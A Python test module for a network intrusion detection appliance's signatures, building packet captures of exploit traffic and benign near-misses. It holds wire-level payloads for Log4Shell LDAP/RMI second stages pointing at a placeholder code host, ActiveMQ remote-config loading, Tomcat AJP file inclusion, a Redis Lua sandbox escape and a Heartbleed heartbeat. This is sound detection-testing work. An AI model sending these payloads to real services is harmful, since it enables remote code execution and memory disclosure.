"""Cases for our own signatures: the lab's attack definitions on the wire, and what is not HTTP."""

from collections import Counter
from collections.abc import Iterator, Sequence
from itertools import groupby

from scapy.packet import Packet

from appliance.lab.definitions import AttackFile, AttackRequest, load_attacks
from tests.tools.cases import Case
from tests.tools.wire import CLIENT, SERVER, Path2, Tcp, exchange

# The guest asks, the attacker's server answers.
OUTGOING = Path2(client=SERVER, server=CLIENT)


def cases() -> Iterator[Case]:
    """Return every case of this family."""
    for file in load_attacks():
        yield from of_attack(file)
    yield from second_stage()
    yield from other_protocols()


def of_attack(file: AttackFile) -> Iterator[Case]:
    """One case for the plain exploits, one a family of obfuscation, one for all that must stay silent."""

    def key(request: AttackRequest) -> str:
        if request.kind == "exploit":
            return "exploit"
        return f"obfuscated-{request.family}" if request.kind == "obfuscated" else "near-miss"

    attack = file.attack
    for group, members in groupby(sorted(attack.requests, key=key), key):
        chosen = list(members)
        names = ", ".join(request.name for request in chosen)
        silent = group == "near-miss"
        yield Case(
            name=f"{file.stem}-{group}",
            purpose=f"{attack.name} ({attack.cve}, {attack.product}), one connection a request: {names}.",
            why=(
                "No alert: ordinary requests, and near misses that share URL, place and characters with one."
                if silent
                else "Each request carries the exploit in a form the vulnerable software would act on, or is"
                " taken as an attempt at one; each raises what its entry in the attack file names."
            ),
            rules=attack.signatures,
            packets=connections(chosen),
            alerts=Counter(sid for request in chosen for sid in request.sids),
        )


def connections(chosen: Sequence[AttackRequest]) -> list[Packet]:
    """Return one connection a request, one after the other."""
    return [
        packet
        for number, request in enumerate(chosen)
        for packet in exchange(request.wire("web"), sport=41000 + number, dport=request.port)
    ]


def ber(tag: int, *parts: bytes) -> bytes:
    """Return one BER element; the length in the long form past 127."""
    content = b"".join(parts)
    size = len(content)
    length = bytes([size]) if size < 0x80 else b"\x82" + size.to_bytes(2, "big")
    return bytes([tag]) + length + content


def ldap_entry(name: bytes, **attributes: bytes) -> bytes:
    """Return an LDAP searchResultEntry followed by its searchResultDone."""
    rows = [ber(0x30, ber(4, key.encode()), ber(0x31, ber(4, value))) for key, value in attributes.items()]
    entry = ber(0x30, ber(2, b"\x02"), ber(0x64, ber(4, name), ber(0x30, *rows)))
    done = ber(0x30, ber(2, b"\x02"), ber(0x65, ber(10, b"\x00"), ber(4), ber(4)))
    return entry + done


def answered(ask: bytes, answer: bytes, *, sport: int, dport: int) -> list[Packet]:
    """Return one outgoing connection of the guest: a question and its answer."""
    return Tcp(OUTGOING, sport, dport).open().say(ask).say(answer, to_server=False).close().packets


def second_stage() -> Iterator[Case]:
    """Log4Shell's LDAP and RMI answers, and what a directory or registry says every day."""
    search = ber(0x30, ber(2, b"\x02"), ber(0x63, ber(4, b"a"), ber(10, b"\x00"), ber(10, b"\x03")))
    factory = ldap_entry(
        b"a",
        javaClassName=b"foo",
        javaCodeBase=b"http://192.0.2.10:8000/",
        objectClass=b"javaNamingReference",
        javaFactory=b"Exploit",
    )
    serialised = ldap_entry(
        b"a", javaClassName=b"java.lang.String", javaSerializedData=b"\xac\xed\x00\x05sr\x00\x00x"
    )
    person = ldap_entry(
        b"cn=ada", objectClass=b"inetOrgPerson", cn=b"Ada", description=b"wrote javaFactory notes"
    )
    string = ldap_entry(
        b"cn=s", javaClassName=b"java.lang.String", description=b"javaSerializedData is not here"
    )
    call = b"P\xac\xed\x00\x05w\x22" + bytes(34) + b"t\x00\x01a"
    answer = b"Q\xac\xed\x00\x05w\x0f\x01" + bytes(14)
    reference = answer + b"sr\x00*com.sun.jndi.rmi.registry.ReferenceWrapper_Stub" + bytes(16)
    stub = answer + b"s}\x00\x00\x00\x02\x00\x0fjava.rmi.Remote\x00\x05IData" + bytes(16)
    text = b"HTTP/1.1 200 OK\r\n\r\nsee com.sun.jndi.rmi.registry.ReferenceWrapper\n"

    yield Case(
        "log4shell-second-stage-exploit",
        "The answers that bring the code: an LDAP entry naming a factory, one with a serialised object, an"
        " RMI reference. The guest is the client.",
        "Whatever carried the lookup in, the guest now receives a class's location or a serialised object"
        " from a server it was told to ask.",
        "log4shell-second-stage.rules",
        answered(search, factory, sport=42000, dport=1389)
        + answered(search, serialised, sport=42001, dport=389)
        + answered(call, reference, sport=42002, dport=1099),
        {9000021: 1, 9000022: 1, 9000023: 1},
    )
    yield Case(
        "log4shell-second-stage-near-miss",
        "LDAP entries and RMI answers without a factory, a serialised object or a reference; and the"
        " exploit's own answer on its way to somebody else.",
        "No alert: the words alone are not the attributes, an ordinary stub is no reference, and a guest that"
        " serves a Java directory is not the one attacked.",
        "log4shell-second-stage.rules",
        answered(search, person, sport=42010, dport=389)
        + answered(search, string, sport=42011, dport=389)
        + answered(call, stub, sport=42012, dport=1099)
        + answered(b"GET / HTTP/1.0\r\n\r\n", text, sport=42013, dport=8080)
        + Tcp(sport=42014, dport=389).open().say(search).say(factory, to_server=False).close().packets,
    )


def openwire(*strings: bytes) -> bytes:
    """Return an OpenWire ExceptionResponse holding these strings."""
    content = b"\x1f" + bytes(4) + b"\x01" + bytes(4)
    content += b"".join(b"\x01" + len(string).to_bytes(2, "big") + string for string in strings)
    return len(content).to_bytes(4, "big") + content


def ajp(**attributes: bytes) -> bytes:
    """Return an AJP GET request with these request attributes (`__` in a name stands for `.`)."""

    def string(value: bytes) -> bytes:
        return len(value).to_bytes(2, "big") + value + b"\x00"

    content = b"\x02\x02" + string(b"HTTP/1.1") + string(b"/index.txt") + string(b"192.0.2.1") + b"\xff\xff"
    content += string(b"web") + b"\x00\x50\x00\x00\x00"
    for name, value in attributes.items():
        content += b"\x0a" + string(name.replace("__", ".").encode()) + string(value)
    content += b"\xff"
    return b"\x12\x34" + len(content).to_bytes(2, "big") + content


def redis(*words: bytes) -> bytes:
    """Return a Redis command."""
    return b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words)


def said(data: bytes, *, sport: int, dport: int) -> list[Packet]:
    """Return one connection to the guest in which only the client speaks."""
    return Tcp(sport=sport, dport=dport).open().say(data).close().packets


def other_protocols() -> Iterator[Case]:
    """ActiveMQ, AJP, Redis and TLS heartbeats."""
    context = b"org.springframework.context.support.ClassPathXmlApplicationContext"
    script = b'local f = package.loadlib("liblua5.1.so.0", "luaopen_io"); return f'
    yield Case(
        "other-protocols-exploit",
        "CVE-2023-46604 (ActiveMQ), CVE-2020-1938 (Tomcat), CVE-2022-0543 (Redis), CVE-2014-0160 (OpenSSL).",
        "A class that loads a remote configuration; include attributes that only the front end may set;"
        " a script that loads a library; a heartbeat of three bytes that claims sixteen thousand.",
        "other-protocols.rules",
        said(openwire(context, b"http://192.0.2.10/lab.xml"), sport=43000, dport=61616)
        + said(
            openwire(context.replace(b"ClassPath", b"FileSystem"), b"HTTP://lab.invalid/x"),
            sport=43001,
            dport=61616,
        )
        + said(
            ajp(
                javax__servlet__include__request_uri=b"/",
                javax__servlet__include__path_info=b"WEB-INF/web.xml",
            ),
            sport=43002,
            dport=8009,
        )
        + said(redis(b"EVAL", script, b"0"), sport=43003, dport=6379)
        + said(b"\x18\x03\x02\x00\x03\x01\x40\x00", sport=43004, dport=443),
        {9000381: 2, 9000382: 1, 9000383: 1, 9000384: 1},
    )
    heartbeat = b"\x18\x03\x02\x00\x17\x01\x00\x04" + bytes(20)
    yield Case(
        "other-protocols-near-miss",
        "The same services and words, used as they are meant to be.",
        "No alert: a message about the class without an address, an attribute of another name, a stored text"
        " about the function, heartbeats whose length is honest or nothing.",
        "other-protocols.rules",
        said(openwire(b"java.lang.Exception", context + b" was refused"), sport=43010, dport=61616)
        + said(ajp(REMOTE_PORT=b"1", note=b"see javax.servlet.include.path_info"), sport=43011, dport=8009)
        + said(redis(b"SET", b"note", b"about package.loadlib"), sport=43012, dport=6379)
        + said(redis(b"EVAL", b"return redis.call('get', KEYS[1])", b"1", b"note"), sport=43013, dport=6379)
        + said(heartbeat + b"\x18\x03\x02\x00\x03\x01\x00\x00", sport=43014, dport=443),
    )
